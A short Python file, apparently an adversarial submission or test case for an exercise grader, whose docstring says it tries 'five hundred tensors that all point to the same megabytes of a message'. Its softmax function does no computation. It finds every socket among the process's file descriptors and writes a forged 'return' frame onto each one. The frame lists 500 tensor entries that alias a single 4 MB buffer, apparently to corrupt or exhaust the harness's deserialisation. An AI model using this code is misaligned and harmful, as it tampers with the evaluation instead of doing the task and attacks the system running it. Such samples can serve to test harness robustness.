"""
exercise: 2.3
tries: five hundred tensors that all point to the same megabytes of a message
points: 0
"""

import json
import os
import stat
import struct

def wire():
    """The sockets among the descriptors of this process."""
    for number in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                yield number
        except OSError:
            continue


def frame(head, body=b""):
    text = head if isinstance(head, bytes) else json.dumps(head).encode()
    return struct.pack(">QQ", len(text), len(body)) + text + body


def send(*frames):
    for number in wire():
        for data in frames:
            view = memoryview(data)
            while view:
                view = view[os.write(number, view) :]


def softmax(x, dim):
    if x.dim() > 1:
        raise RuntimeError("only once")
    size = 4 << 20
    shown = {"dtype": "uint8", "shape": [size], "device": "cpu", "bytes": [0, size]}
    value = [{"k": "tensor", "v": shown}] * 500
    send(frame({"op": "return", "news": {}, "value": value}, bytes(size)))
    raise RuntimeError("sent")
